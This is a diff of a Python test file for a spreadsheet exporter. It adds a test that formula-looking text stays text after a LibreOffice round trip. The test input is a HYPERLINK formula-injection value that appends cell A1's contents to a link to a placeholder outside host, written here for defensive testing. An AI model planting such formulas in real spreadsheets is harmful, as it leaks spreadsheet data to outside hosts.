@@ -16,14 +16,17 @@ import subprocess
 import zipfile
 from pathlib import Path
 
+import openpyxl
 import pytest
-from conftest import REPO, tree_digest
+from conftest import REPO, make_project, tree_digest
+from test_xlsx_safety import _note as _put_note
 
 from generator.xlsx import export_xlsx
 from generator.xlsximport import import_xlsx
 
 OUTCOMES = "datasets/outcomes/outcomes.csv"
 ROW = "yunnan-national-on-file-2020-10"  # its value is 2513, as published 2513户
+TRICKY = '=HYPERLINK("http://example.org/?"&A1,"点此查看")'
 
 
 def _soffice(fmt: str, out: Path, files: list[Path], profile: Path) -> None:
@@ -82,7 +85,11 @@ def calc(tmp_path_factory: pytest.TempPathFactory) -> Calc:
     }
     for name, text in edits.items():
         (base / f"fods/edited-{name}.fods").write_text(text, encoding="utf-8")
-    _soffice("xlsx", base / "calc", [*books, *(base / f"fods/edited-{n}.fods" for n in edits)], profile)
+    tricky = make_project(base / "tricky")
+    _put_note(tricky, TRICKY)
+    (book,) = [b for b in export_xlsx(tricky, base / "tricky-books", force=True) if b.name == "outcomes.xlsx"]
+    book = book.rename(book.with_name("tricky.xlsx"))
+    _soffice("xlsx", base / "calc", [*books, book, *(base / f"fods/edited-{n}.fods" for n in edits)], profile)
     return Calc(root, {p.stem: p for p in (base / "calc").iterdir()}, html.unescape(note))
 
 
@@ -136,3 +143,13 @@ def test_formula_typed_in_libreoffice_is_refused(calc: Calc, tmp_path: Path) -> 
                if line.startswith(ROW + ","))  # the sheet's rows are the file's lines
     assert [(i.code, i.sheet, i.row, i.column) for i in result.errors] == [("formula-cell", "outcomes", row, "G")]
     assert tree_digest(root) == before
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_libreoffice(calc: Calc) -> None:
+    """Calc opens the exported workbook and saves it: the text is still text, no formula was made."""
+    with zipfile.ZipFile(calc.books["tricky"]) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any(re.search(r"<f[ >]", xml) for xml in sheets)
+    wb = openpyxl.load_workbook(calc.books["tricky"])
+    ws = wb["outcomes"]
+    assert (ws.cell(ws.max_row, 17).value, ws.cell(ws.max_row, 17).data_type) == (TRICKY, "s")
